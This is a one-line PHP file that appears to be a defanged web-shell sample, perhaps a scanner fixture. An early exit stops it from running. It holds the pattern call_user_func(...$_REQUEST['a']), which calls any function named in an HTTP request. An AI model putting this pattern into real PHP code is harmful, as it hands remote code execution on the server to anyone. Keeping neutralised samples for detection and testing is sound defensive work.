<?php exit; /* inert */ call_user_func(...$_REQUEST["a"]);
